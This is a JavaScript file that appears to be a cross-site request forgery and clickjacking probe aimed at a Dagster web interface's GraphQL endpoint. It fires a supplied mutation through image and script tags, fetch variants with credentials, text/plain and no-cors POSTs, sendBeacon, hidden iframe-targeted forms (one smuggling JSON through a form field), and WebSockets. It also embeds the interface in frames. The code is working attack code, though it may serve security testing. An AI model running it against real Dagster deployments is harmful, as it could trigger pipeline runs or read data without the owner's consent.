// What a foreign page could try on Dagster's interface. Each way gives the text that the page could read, or null.
async function everyWay(address, launch, state) {
    const graphql = `${address}/graphql`;
    const byAddress = `${graphql}?query=${encodeURIComponent(launch)}`;
    const command = JSON.stringify({ query: launch });
    const wait = (made, seconds) => Promise.race([made, new Promise(done => setTimeout(() => done(null), 1000 * seconds))]);

    const read = (target, options) => fetch(target, options).then(answer => answer.text()).catch(() => null);
    const post = (kind, body, mode) =>
        read(graphql, { method: "POST", mode, body, headers: kind ? { "Content-Type": kind } : {} });

    const element = (name, source) => wait(new Promise(done => {
        const made = document.createElement(name);
        made.onload = () => done(made.naturalWidth ? "an image" : null);
        made.onerror = () => done(null);
        made.src = source;
        document.body.append(made);
    }), 3);

    const form = (enctype, name, value) => new Promise(done => {
        const frame = document.createElement("iframe");
        const made = document.createElement("form");
        const field = document.createElement("input");
        frame.name = `frame${Math.random()}`;
        Object.assign(made, { method: "POST", action: graphql, enctype, target: frame.name });
        Object.assign(field, { name, value });
        made.append(field);
        document.body.append(frame, made);
        made.submit();
        setTimeout(() => {
            try { done(frame.contentDocument.body.innerText); } catch { done(null); }
        }, 1500);
    });

    const socket = (protocol, begin) => wait(new Promise(done => {
        const made = new WebSocket(graphql.replace("http", "ws"), protocol);
        made.onopen = () => {
            made.send(JSON.stringify({ type: "connection_init", payload: {} }));
            made.send(JSON.stringify({ id: "1", type: begin, payload: { query: launch } }));
        };
        made.onmessage = event => done(event.data);
        made.onclose = () => done(null);
    }), 3);

    const ways = {
        "image": element("img", byAddress),
        "script": element("script", byAddress),
        "get": read(byAddress),
        "get, unread": read(byAddress, { mode: "no-cors" }),
        "get with cookies": read(byAddress, { credentials: "include" }),
        "post of text": post("text/plain", command),
        "post of text, unread": post("text/plain", command, "no-cors"),
        "post of JSON": post("application/json", command),
        "post of nothing": read(byAddress, { method: "POST", mode: "no-cors" }),
        "beacon": navigator.sendBeacon(graphql, command) && null,
        "form of text": form("text/plain", command.slice(0, -1) + ', "x": "', '"}'),
        "form of fields": form("application/x-www-form-urlencoded", "query", launch),
        "form of parts": form("multipart/form-data", "query", launch),
        "socket": socket("graphql-ws", "start"),
        "socket of the newer protocol": socket("graphql-transport-ws", "subscribe"),
        "page": read(`${address}/`),
        "state": post("text/plain", JSON.stringify({ query: state })),
        "state by address": read(`${graphql}?query=${encodeURIComponent(state)}`),
    };
    const found = {};
    for (const [name, way] of Object.entries(ways)) found[name] = await way;
    return found;
}

// The interface under a page's own buttons.
function frames(address) {
    for (const [name, attribute] of [["iframe", "src"], ["embed", "src"], ["object", "data"]]) {
        const made = document.createElement(name);
        made[attribute] = address;
        document.body.append(made);
    }
    return new Promise(done => setTimeout(done, 3000));
}
